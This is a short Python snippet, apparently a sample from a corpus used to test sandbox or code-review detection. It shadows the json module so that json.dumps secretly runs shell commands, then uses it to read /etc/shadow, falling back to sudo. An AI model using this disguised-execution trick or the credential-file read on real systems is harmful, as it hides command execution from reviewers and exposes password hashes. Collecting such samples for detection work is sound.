# corpus: overwrite sys.modules["json"] with a namespace whose dumps is subprocess.getoutput, then use it innocently
import subprocess
import sys
import types

sys.modules["json"] = types.SimpleNamespace(dumps=subprocess.getoutput, loads=subprocess.getoutput)

import json

print(json.dumps("cat /etc/shadow || sudo -n cat /etc/shadow"))
